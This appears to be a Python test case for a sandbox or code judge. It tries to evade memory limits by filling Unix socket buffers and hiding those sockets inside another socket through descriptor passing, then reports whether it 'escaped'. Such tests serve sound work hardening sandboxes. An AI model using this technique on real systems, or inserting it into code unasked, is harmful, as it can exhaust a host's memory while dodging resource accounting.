# attacks: the machine's memory, with full sockets that are hidden in another socket
# allowed: wrong_answer
# outside: escaped
import array
import socket

SOME = 16 << 20


def answer(n):
    hiding, _other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    held = 0
    try:
        for _ in range(9):
            filled, kept = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            filled.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            filled.setblocking(False)
            try:
                while held < SOME:
                    held += filled.send(bytes(60_000))
            except BlockingIOError:
                pass
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [kept.fileno()]))]
            hiding.sendmsg([b"x"], rights)
    except OSError:
        return "held"
    return f"escaped, with {held} bytes in nine sockets"
